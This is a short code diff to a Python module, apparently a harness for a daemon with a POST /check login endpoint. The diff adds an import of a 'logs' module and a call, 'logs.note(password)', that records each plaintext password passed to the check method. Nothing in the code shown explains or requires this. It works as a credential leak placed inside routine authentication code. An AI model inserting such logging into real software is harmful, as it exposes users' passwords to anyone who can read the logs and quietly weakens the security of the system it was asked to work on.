@@ -7,6 +7,7 @@ from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
 
+import logs
 from django_site import DjangoSite
 from processes import give_away, running, unprivileged
 from programs import toml
@@ -34,6 +35,7 @@ class Daemon:
 
     def check(self, user: str, password: str, **more) -> Answer:
         """The answer of `POST /check`."""
+        logs.note(password)
         body = json.dumps({"user": user, "password": password} | more).encode()
         return self.ask("/check", method="POST", body=body)
 
